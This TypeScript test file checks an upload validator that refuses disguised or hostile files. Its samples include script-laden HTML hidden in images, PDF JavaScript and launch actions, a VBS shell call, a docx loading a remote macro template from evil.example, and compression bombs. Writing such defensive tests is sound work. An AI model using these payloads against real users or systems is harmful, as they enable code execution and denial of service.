import { PDFName, PDFString } from 'pdf-lib';
import { describe, expect, it } from 'vitest';
import { checkPdf } from './pdf.ts';
import {
  deflatedZeros,
  DOCX_MAIN,
  entriesOf,
  EXE,
  openWithJavaScript,
  openWithLaunch,
  pdfBomb,
  pngDeclaring,
  rawZip,
  realDocx,
  realJpeg,
  realPdf,
  realPng,
  realXlsx,
} from './testing.ts';
import { checkUpload } from './upload.ts';

const refusal = async (bytes: Uint8Array, name: string) => {
  const r = await checkUpload(bytes, name);
  return r.ok ? null : r.message;
};
const MB = 1024 * 1024;

describe('pictures are decoded whole', () => {
  it('real PNG and JPEG photos are accepted', async () => {
    expect(await checkUpload(realPng(640, 480), '现场照片.png')).toMatchObject({ ok: true, kind: { mime: 'image/png' } });
    expect(await checkUpload(realJpeg(640, 480), '现场照片.jpg')).toMatchObject({ ok: true, kind: { mime: 'image/jpeg' } });
  });
  it('a PNG or JPEG whose body is a web page is refused', async () => {
    const html = Buffer.from('<html><body><script>document.location="https://evil.example"</script></body></html>');
    expect(await refusal(Buffer.concat([realPng().subarray(0, 8), html]), '照片.png')).toBe(
      '图片无法解码（文件已损坏或不是真正的 PNG 图片）；请用画图或截图工具另存为新图片后再上传',
    );
    expect(await refusal(Buffer.concat([realPng().subarray(0, 33), html]), '照片.png')).toBe(
      '图片无法解码（文件已损坏或不是真正的 PNG 图片）；请用画图或截图工具另存为新图片后再上传',
    );
    expect(await refusal(Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), html]), '照片.jpg')).toBe(
      '图片无法解码（文件已损坏或不是真正的 JPEG 图片）；请用画图或截图工具另存为新图片后再上传',
    );
  });
  it('anything after the image’s end is refused', async () => {
    const page = Buffer.from('<script>alert(1)</script>');
    expect(await refusal(Buffer.concat([realPng(), page]), 'a.png')).toBe(
      '图片末尾附带了其他数据，已拒绝；请用画图或截图工具另存为新图片后再上传',
    );
    expect(await refusal(Buffer.concat([realJpeg(), page]), 'a.jpg')).toBe(
      '图片末尾附带了其他数据，已拒绝；请用画图或截图工具另存为新图片后再上传',
    );
    expect(await refusal(Buffer.concat([realJpeg(), EXE]), 'a.jpg')).toContain('末尾附带了其他数据');
  });
  it('a picture with more pixels than allowed is refused before it is decoded', async () => {
    expect(await refusal(pngDeclaring(60_000, 60_000), 'huge.png')).toBe('图片像素过多（超过 2500 万像素），请缩小后再上传');
    const jpeg = realJpeg(64, 48);
    const sof = jpeg.indexOf(Buffer.from([0xff, 0xc0]));
    jpeg.writeUInt16BE(20_000, sof + 5);
    jpeg.writeUInt16BE(20_000, sof + 7);
    expect(await refusal(jpeg, 'huge.jpg')).toBe('图片像素过多（超过 2500 万像素），请缩小后再上传');
  });
});

describe('PDFs may hold no scripts, launches or embedded files', () => {
  it('a real PDF is accepted, with or without object streams', async () => {
    expect(await checkUpload(await realPdf(), '整改报告.pdf')).toMatchObject({ ok: true, kind: { mime: 'application/pdf' } });
    expect(await checkUpload(await realPdf(undefined, false), '整改报告.pdf')).toMatchObject({ ok: true });
  });
  it('JavaScript is refused, also inside a compressed object stream', async () => {
    const plain = await realPdf(openWithJavaScript, false);
    expect(plain.includes('/JavaScript')).toBe(true);
    expect(await refusal(plain, 'a.pdf')).toBe(
      'PDF 含有脚本等可执行或嵌入的内容，已拒绝；请重新导出为普通 PDF（例如用 WPS 或 Office“另存为 PDF”）后再上传（不含脚本和附件）',
    );
    const packed = await realPdf(openWithJavaScript, true);
    expect(packed.includes('/JavaScript')).toBe(false); // only inside the compressed object stream
    expect(await refusal(packed, 'a.pdf')).toContain('PDF 含有脚本');
  });
  it('names spelled with #xx escapes, in either case, are still names', async () => {
    const plain = (await realPdf(openWithJavaScript, false)).toString('latin1');
    const escaped = Buffer.from(plain.replace('/JavaScript', '/#4aava#53cript').replace('/JS ', '/J#53 '), 'latin1');
    expect(escaped.includes('/JavaScript')).toBe(false);
    expect(await refusal(escaped, 'a.pdf')).toContain('PDF 含有脚本');
  });
  it('a launch action, an embedded file or an XFA form is refused', async () => {
    expect(await refusal(await realPdf(openWithLaunch), 'a.pdf')).toContain('启动程序');
    expect(
      await refusal(await realPdf(async (doc) => doc.attach(EXE, 'setup.exe', { mimeType: 'application/octet-stream' })), 'a.pdf'),
    ).toContain('嵌入文件');
    const xfa = await realPdf((doc) =>
      doc.catalog.set(PDFName.of('AcroForm'), doc.context.obj({ Fields: [], XFA: PDFString.of('<xdp/>') })),
    );
    expect(await refusal(xfa, 'a.pdf')).toContain('XFA 表单');
  });
  it('an object hidden in an older revision, which pdf-lib sets aside, is still seen', async () => {
    const clean = (await realPdf(undefined, false)).toString('latin1');
    // Object 1 defined twice: first with a script, then clean; a reader following the old offsets would run it.
    const older = '1 0 obj\n<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>\nendobj\n';
    const withOld = Buffer.from(clean.replace(/\n1 0 obj\n/, `\n${older}1 0 obj\n`), 'latin1');
    expect(await refusal(withOld, 'a.pdf')).toContain('PDF 含有脚本');
  });
  it('an object stream that inflates without bound is stopped at the cap', async () => {
    const bomb = pdfBomb(120 * MB);
    expect(bomb.length).toBeLessThan(MB);
    let largest = 0;
    expect(await checkPdf(bomb, 50 * MB, (n) => (largest = Math.max(largest, n)))).toContain('疑似压缩炸弹');
    // pdf-lib's decoder grows its buffer by doubling: it stops at the first growth past the cap.
    expect(largest).toBeLessThanOrEqual(2 * 50 * MB);
    expect(await refusal(bomb, 'a.pdf')).toBe(
      'PDF 内容解压后过大（超过 50MB，疑似压缩炸弹），已拒绝；请重新导出为普通 PDF（例如用 WPS 或 Office“另存为 PDF”）后再上传',
    );
  }, 30_000);
  it('a damaged PDF is refused, not a crash', async () => {
    expect(await refusal(Buffer.from('%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R\nendobj\n'), 'a.pdf')).toMatch(
      /^PDF 文件已损坏|^PDF 含有/,
    );
  });
});

describe('Word and Excel files may hold no macros or programs', () => {
  it('real .docx and .xlsx files are accepted', async () => {
    expect(await checkUpload(realDocx(), '整改报告.docx')).toMatchObject({ ok: true, kind: { ext: 'docx' } });
    expect(await checkUpload(realXlsx(), '台账.xlsx')).toMatchObject({ ok: true, kind: { ext: 'xlsx' } });
    // A chart's own workbook embedded in a Word file is opened and checked too, and is fine.
    expect(await checkUpload(realDocx({ 'word/embeddings/Microsoft_Excel_Worksheet.xlsx': realXlsx() }), '图表.docx')).toMatchObject({
      ok: true,
    });
  });
  it('a .docx carrying a program is refused, whatever the program is called', async () => {
    expect(await refusal(realDocx({ 'word/embeddings/setup.exe': EXE }), 'a.docx')).toBe(
      '文件中嵌有程序或脚本（“setup.exe”），已拒绝；请删除文档中嵌入的对象后再上传',
    );
    expect(await refusal(realDocx({ 'word/media/image1.png': EXE }), 'a.docx')).toBe(
      '文件中嵌有Windows 程序（“image1.png”），已拒绝；请删除文档中嵌入的对象后再上传',
    );
    expect(await refusal(realDocx({ 'word/embeddings/run.vbs': 'CreateObject("WScript.Shell").Run "calc"' }), 'a.docx')).toContain(
      '“run.vbs”',
    );
    expect(
      await refusal(realDocx({ 'word/embeddings/Microsoft_Excel_Worksheet.xlsx': realXlsx({ 'xl/media/x.bin': EXE }) }), 'a.docx'),
    ).toContain('Windows 程序');
  });
  it('macros, OLE packages and ActiveX are refused', async () => {
    const ole = Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0, 0, 0]);
    expect(await refusal(realDocx({ 'word/embeddings/oleObject1.bin': ole }), 'a.docx')).toContain('OLE 对象');
    expect(await refusal(realDocx({ 'word/vbaProject.bin': ole }), 'a.docx')).toContain('宏');
    expect(await refusal(realXlsx({ 'xl/vbaProject.bin': ole }), 'a.xlsx')).toContain('宏');
    expect(await refusal(realDocx({}, '', 'application/vnd.ms-word.document.macroEnabled.main+xml'), 'a.docx')).toBe(
      '文件含有宏（启用宏的文档），已拒绝；请另存为不含宏的文件后再上传',
    );
    expect(await refusal(realDocx({}, '<Default Extension="bin" ContentType="application/vnd.ms-office.activeX"/>'), 'a.docx')).toContain(
      '宏或嵌入对象',
    );
    const rels =
      '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>';
    expect(await refusal(realDocx({ 'word/_rels/settings.xml.rels': rels }), 'a.docx')).toBe(
      '文件引用了外部模板或对象，已拒绝；请删除这些引用后再上传',
    );
  });
  it('a zip that is not the document its name says is refused', async () => {
    expect(await refusal(realXlsx(), '报告.docx')).toBe(
      '文件内容不是Word 文档（.docx）；请用 Word 或 WPS 另存为Word 文档（.docx）后再上传',
    );
    expect(await refusal(realDocx(), '台账.xlsx')).toContain('文件内容不是Excel 工作簿（.xlsx）');
    expect(await refusal(realDocx({}, '', DOCX_MAIN.replace('document.main', 'template.main')), 'a.docx')).toContain(
      '文件内容不是Word 文档',
    );
  });
  it('a lying zip is refused by the same safe unzip as imports', async () => {
    const lying = rawZip([
      ...entriesOf(realDocx()),
      { name: 'word/media/image1.png', deflated: deflatedZeros(48 * MB), size: 48 * MB, declaredSize: 1024 },
    ]);
    expect(await refusal(lying, 'a.docx')).toContain('疑似压缩炸弹');
  }, 30_000);
});
